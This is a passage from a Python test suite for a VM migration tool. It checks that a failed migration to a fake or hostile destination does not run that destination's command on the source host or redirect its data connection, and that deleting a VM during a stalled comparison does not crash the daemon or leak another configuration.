    f.check(r.returncode == 1, f"the move did not fail: rc {r.returncode} {r.stdout} {r.stderr}")
    f.check(job.get("stage") == "failed" and job.get("failed-stage") in ("setup", "storage", "memory"),
            f"job: {job}")
    f.check(bool(job.get("error")), f"the failed move gives no reason: {job}")
    f.check(not (tmp_path / "marker").exists(), "the destination's command ran on the source (marker created)")
    for e in events:
        if e.get("event") == "data-connection":
            f.check(False, f"the source connected where the destination pointed it: {e}")
    f.check(host1.vm_names() == ["web1"], f"VMs on host1: {host1.vm_names()}")
    f.check(host1.ferry("vm", "show", "web1")["state"] == "running", "the guest does not run on host1")
    try:
        wait_for(lambda: heartbeat(host1, "web1") > beat, timeout=60, what="heartbeat on host1")
    except AssertionError as e:
        f.check(False, str(e))
    f.done()


def test_compare_stalled_by_the_destination_while_the_vm_is_deleted(source_host, guest, tmp_path):
    """A destination that takes its time to answer holds vm.compare on host1
    in the round trip for seconds: the VM deleted meanwhile must not be read
    from freed memory."""
    host1, cc, fakes = source_host
    host1.ferry("vm", "define", "web1", "--memory", "64M", "--kernel", guest / "vmlinuz",
                "--initrd", guest / "initrd.img")
    fake = FakeDest(tmp_path, {}, delays={"migrate.addresses": 4})
    fakes.append(fake)
    compare = subprocess.Popen(on("client", "env", f"KRB5CCNAME=FILE:{cc}", FERRY, "-H", host1.fqdn, "--json",
                                  "vm", "compare", "web1", H2["fqdn"]),
                               env=LAB_ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 30
    while not any(e.get("op") == "migrate.addresses" for e in fake.events()):
        if time.time() > deadline or compare.poll() is not None:
            compare.kill()
            raise HarnessError(f"vm.compare never asked the fake destination: {compare.communicate()}")
        time.sleep(0.1)
    host1.ferry("vm", "delete", "web1")  # while compare waits for the destination's answer
    out, err = compare.communicate(timeout=120)
    f = Findings()
    f.note(f"vm compare: rc {compare.returncode}: {out.strip()[:300]} {err.strip()[:300]}")
    f.check(host1.proc.poll() is None, f"ferryd on host1 died: {host1.log.read_text()[-1500:]}")
    checks = [e for e in fake.events() if e.get("event") == "request" and e.get("op") == "migrate.check"]
    sent = (checks[0].get("args") or {}).get("config") if checks else None
    f.check(isinstance(sent, dict) and sent.get("name") == "web1" and sent.get("memory-mib") == 64,
            f"the destination was sent another configuration than web1's: {json.dumps(sent)[:300]}")
    f.check(compare.returncode in (0, 1) and out.strip().startswith("{"), "vm compare gave no answer")
    f.check(host1.ferry_raw("host", "show").returncode == 0, "host1 no longer answers")
    f.done()
